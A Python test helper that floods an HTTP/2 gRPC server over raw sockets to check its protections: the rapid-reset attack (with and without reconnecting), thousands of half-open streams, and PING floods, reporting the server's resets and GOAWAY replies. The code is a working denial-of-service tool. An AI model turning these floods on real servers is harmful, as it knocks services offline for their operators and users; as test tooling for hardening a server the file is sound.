"""Raw HTTP/2 attackers for tests/test_grpc_floods.py, each on one TCP connection, built on the h2
project's framing (hyperframe) and header coding (hpack):

    python -m tests.h2flood KIND HOST:PORT SECONDS [MOST]

KIND is `reset` (HEADERS, a message and RST_STREAM for stream after stream: the rapid reset),
`reset-reconnect` (the same, and a new connection each time the server closes one, until
SECONDS are up), `open` (streams opened with half a message and left so, 20,000 of them, past
any limit the server announces) or
`ping` (PING frames as fast as the socket takes them); `ping-call` the same beside an open call.
MOST caps the streams or pings sent (20,000 streams for `open`; per connection for
`reset-reconnect`). Frames are built once and their stream ids
patched, so that the attacker spends little CPU per frame. It reads everything the server sends
on a thread of its own and prints one JSON line: what it sent, what came back (RST_STREAM,
REFUSED_STREAM, PING acks, GOAWAY and its code) and when the server closed the connection.
"""
from __future__ import annotations

import json
import os
import socket
import struct
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import Frame

from pollen.v1 import embedder_pb2 as pb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, DATA, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x1, 0x0, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL, REFUSED_STREAM = 0x8, 0x7
BATCH = 64  # streams (or pings) written with one send


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def grpc_message(message) -> bytes:
    body = message.SerializeToString()
    return b"\0" + struct.pack(">I", len(body)) + body


class Attacker:
    """One connection: the preface, then what `send` writes; a reader thread counts the answers."""

    def __init__(self, target: str):
        host, _, port = target.rpartition(":")
        self.sock = socket.create_connection((host, int(port)))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.window = 65535          # the connection's send window, for DATA
        self.window_changed = threading.Condition()
        self.counts = {"rst_stream": 0, "refused": 0, "headers": 0, "ping_acks": 0, "acks_after_goaway": 0}
        self.goaway: dict | None = None
        self.closed_after_s: float | None = None
        self.t0 = time.monotonic()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def read(self) -> None:
        buffer = b""
        try:
            while chunk := self.sock.recv(1 << 16):
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    self.on_frame(buffer[:9 + length])
                    buffer = buffer[9 + length:]
        except OSError:
            pass
        self.closed_after_s = time.monotonic() - self.t0
        with self.window_changed:
            self.window_changed.notify_all()

    def on_frame(self, raw: bytes) -> None:
        kind, flags, stream = raw[3], raw[4], int.from_bytes(raw[5:9], "big") & 0x7FFFFFFF
        payload = raw[9:]
        if kind == SETTINGS and not flags & ACK:
            self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW_UPDATE and stream == 0:
            with self.window_changed:
                self.window += int.from_bytes(payload, "big") & 0x7FFFFFFF
                self.window_changed.notify_all()
        elif kind == RST_STREAM:
            self.counts["rst_stream"] += 1
            self.counts["refused"] += int.from_bytes(payload, "big") == REFUSED_STREAM
        elif kind == HEADERS:
            self.counts["headers"] += 1
        elif kind == PING and flags & ACK:
            self.counts["ping_acks"] += 1
            self.counts["acks_after_goaway"] += self.goaway is not None
        elif kind == PING:
            self.sock.sendall(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            goaway = Frame.parse_frame_header(memoryview(raw[:9]))[0]
            goaway.parse_body(memoryview(payload))
            self.goaway = {"error_code": goaway.error_code, "debug": goaway.additional_data.decode(errors="replace"),
                           "after_s": round(time.monotonic() - self.t0, 3)}

    def take_window(self, size: int, until: float) -> bool:
        """Wait for `size` bytes of connection window (the server's flow control) or the end."""
        with self.window_changed:
            while self.window < size and self.closed_after_s is None and time.monotonic() < until:
                self.window_changed.wait(0.05)
            if self.window < size:
                return False
            self.window -= size
            return True

    def summary(self, **sent) -> dict:
        return {**sent, **self.counts, "goaway": self.goaway,
                "closed_after_s": None if self.closed_after_s is None else round(self.closed_after_s, 3)}


def header_block(method: str = "Embed") -> bytes:
    return Encoder().encode([(":method", "POST"), (":scheme", "http"), (":path", f"/pollen.v1.Embedder/{method}"),
                             (":authority", "pollen"), ("content-type", "application/grpc"), ("te", "trailers")])


def streams(attacker: Attacker, seconds: float, reset: bool, most: int = 1 << 30) -> dict:
    """HEADERS and a message on stream after stream (`most` of them); `reset`: each then gets
    RST_STREAM(CANCEL)."""
    block, message = header_block(), grpc_message(pb.EmbedRequest(texts=["a flood of requests"]))
    if not reset:
        message = message[:len(message) // 2]  # never finished: the call waits for the rest, no work
    until, stream, sent = time.monotonic() + seconds, 1, 0
    while time.monotonic() < until and attacker.closed_after_s is None and sent < most:
        if not attacker.take_window(BATCH * len(message), until):
            break
        batch = []
        for _ in range(BATCH):
            batch.append(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, message))
            if reset:
                batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            stream += 2
        try:
            attacker.sock.sendall(b"".join(batch))
        except OSError:
            break
        sent += BATCH
    return {"streams": sent}


def pings(attacker: Attacker, seconds: float, with_call: bool, most: int = 1 << 30) -> dict:
    """PING after PING (`most` of them, in batches); `with_call`: on a connection with a call open
    (an EmbedStream that sends nothing), as a client with work in progress has."""
    if with_call:
        block = header_block("EmbedStream")
        attacker.sock.sendall(frame(HEADERS, END_HEADERS, 1, block))
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(BATCH))
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until and attacker.closed_after_s is None and sent < most:
        try:
            attacker.sock.sendall(batch)
        except OSError:
            break
        sent += BATCH
    return {"pings": sent}


def reconnecting(target: str, seconds: float, most: int) -> dict:
    """The rapid reset on connection after connection: a new one as soon as the server closes
    (or refuses) the last, until `seconds` are up."""
    until = time.monotonic() + seconds
    totals = {"connections": 0, "closed": 0, "streams": 0, "rst_stream": 0, "refused": 0}
    while time.monotonic() < until:
        try:
            attacker = Attacker(target)
        except OSError:
            time.sleep(0.01)
            continue
        totals["connections"] += 1
        totals["streams"] += streams(attacker, until - time.monotonic(), reset=True, most=most)["streams"]
        attacker.reader.join(0.2)  # the server's close, when it closed this one
        totals["closed"] += attacker.closed_after_s is not None
        totals["rst_stream"] += attacker.counts["rst_stream"]
        totals["refused"] += attacker.counts["refused"]
        try:
            attacker.sock.shutdown(socket.SHUT_RDWR)  # ends the reader's recv, then the socket
        except OSError:
            pass  # the server reset it
        attacker.sock.close()
    return totals


def main(argv: list[str]) -> int:
    kind, target, seconds = argv[0], argv[1], float(argv[2])
    most = int(argv[3]) if len(argv) > 3 else 20_000 if kind == "open" else 1 << 30
    if kind == "reset-reconnect":
        print(json.dumps({"kind": kind, "pid": os.getpid(), **reconnecting(target, seconds, most)}), flush=True)
        return 0
    attacker = Attacker(target)
    time.sleep(0.2)  # the server's SETTINGS and first WINDOW_UPDATE
    if kind.startswith("ping"):
        sent = pings(attacker, seconds, kind == "ping-call", most)
    else:
        sent = streams(attacker, seconds, reset=kind == "reset", most=most)
    time.sleep(max(0.0, attacker.t0 + seconds - time.monotonic()))  # the streams stay open
    time.sleep(0.5)  # what the server still sends
    print(json.dumps({"kind": kind, "pid": os.getpid(), **attacker.summary(**sent)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
